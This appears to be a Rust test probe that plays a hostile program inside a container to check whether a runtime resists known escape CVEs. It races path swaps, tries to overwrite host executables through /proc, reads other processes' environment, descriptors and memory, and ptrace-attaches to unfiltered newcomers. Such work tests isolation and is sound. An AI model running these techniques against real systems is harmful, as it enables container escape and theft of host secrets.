//! What a hostile program does inside: swaps what the runtime is about to mount upon, and reaches for processes that join.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{self, File, OpenOptions};
use std::io::Result;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::{kernel, say};

fn until(seconds: f64) -> impl Fn() -> bool {
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    move || Instant::now() < end
}

/// Exchanges two names over and over. CVE-2021-30465
pub fn exchange(one: &str, other: &str, seconds: f64) -> Result<()> {
    say(&"ready")?;
    let (goes_on, mut times) = (until(seconds), 0_u64);
    while goes_on() {
        for _ in 0..64 {
            kernel::exchange(one, other)?;
            times += 1;
        }
    }
    say(&json!({ "exchanged": times }))
}

/// Holds every executable that other processes run, and tries to write to it once it is no longer busy.
/// CVE-2019-5736
pub fn overwrite_executables(seconds: f64) -> Result<()> {
    say(&"ready")?;
    let goes_on = until(seconds);
    let own = fs::metadata("/proc/self/exe")?.ino();
    let (mut held, mut written) = (Vec::<File>::new(), 0);
    while goes_on() {
        for entry in fs::read_dir("/proc")?.flatten() {
            hold_executable(&entry.path().join("exe"), own, &mut held);
        }
        for file in &held {
            let again = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
            written +=
                u32::from(again.is_ok_and(|mut file| std::io::Write::write_all(&mut file, b"overwritten").is_ok()));
        }
    }
    say(&json!({"held": held.len(), "written": written}))
}

fn hold_executable(path: &Path, own: u64, held: &mut Vec<File>) {
    let Ok(file) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(path) else { return };
    let Ok(inode) = file.metadata().map(|metadata| metadata.ino()) else { return };
    let known = held.iter().any(|file| file.metadata().is_ok_and(|metadata| metadata.ino() == inode));
    if inode != own && !known {
        held.push(file);
    }
}

/// Reaches for descriptors, environment and memory of every process that comes, as long as it is not yet the program it is
/// to become. `mark` stands in the environment of the host's processes only. CVE-2016-9962
pub fn raid(mark: &str, seconds: f64) -> Result<()> {
    say(&"ready")?;
    let (goes_on, mut loot, mut seen) = (until(seconds), BTreeMap::<String, u64>::new(), BTreeSet::new());
    let own = std::process::id();
    while goes_on() {
        for entry in fs::read_dir("/proc")?.flatten() {
            let pid = entry.file_name().to_str().and_then(|name| name.parse::<u32>().ok());
            if let Some(pid) = pid.filter(|pid| *pid != own) {
                seen.insert(pid);
                raid_process(&entry.path(), mark, &mut loot);
            }
        }
    }
    say(&json!({"seen": seen.len(), "loot": loot}))
}

fn raid_process(process: &Path, mark: &str, loot: &mut BTreeMap<String, u64>) {
    let exe = |_: ()| fs::read_link(process.join("exe")).map(|path| path.to_string_lossy().into_owned());
    let mut take = |what: String| *loot.entry(what).or_default() += 1;
    let environ = fs::read(process.join("environ")).unwrap_or_default();
    if environ.windows(mark.len()).any(|window| window == mark.as_bytes()) {
        take("environ".to_owned());
    }
    for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let Ok(target) = fs::read_link(entry.path()) else { continue };
        let target = target.to_string_lossy().into_owned();
        // The probe's own, and what every container has on its standard streams.
        let harmless = ["/proc", "/dev/", "/memfd:", "pipe:", "anon_inode:", "socket:", "/probe"];
        if !harmless.iter().any(|start| target.starts_with(start)) {
            take(format!("descriptor {target}"));
        }
    }
    // Asked before and after, since the process may become the probe in between.
    let before = exe(());
    if OpenOptions::new().read(true).write(true).open(process.join("mem")).is_ok()
        && let (Ok(before), Ok(after)) = (before, exe(()))
        && before == after
        && before != "/probe"
        && !before.starts_with("/memfd:")
    {
        take(format!("memory of {before}"));
    }
}

/// Attaches to every process that comes as soon as the kernel lets it, and looks whether its filter is there yet. Whoever
/// gets a process before that has one without any.
pub fn trace_newcomers(seconds: f64) -> Result<()> {
    say(&"ready")?;
    let own = std::process::id();
    let (goes_on, mut last) = (until(seconds), own);
    let (mut unfiltered, mut filtered, mut seen) = (0, 0, BTreeMap::<String, u64>::new());
    while goes_on() {
        // The newest pid of this namespace stands last. proc_loadavg(5)
        let newest = fs::read_to_string("/proc/loadavg")?.split_whitespace().last().and_then(|word| word.parse().ok());
        last = last.max(newest.unwrap_or(0));
        // Threads have numbers too, so that the newest process may be some way back.
        for pid in (last.saturating_sub(8).max(2)..=last + 1).rev().cycle().take(40) {
            if pid == own || kernel::attach(pid).is_err() {
                continue;
            }
            let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            let exe = fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
            match status.lines().find_map(|line| line.strip_prefix("Seccomp:")).map(str::trim) {
                Some("0") => unfiltered += 1,
                _ => filtered += 1,
            }
            *seen.entry(exe.to_string_lossy().into_owned()).or_default() += 1;
            // It may be killed meanwhile.
            kernel::detach(pid).ok();
        }
    }
    say(&json!({"unfiltered": unfiltered, "filtered": filtered, "seen": seen}))
}
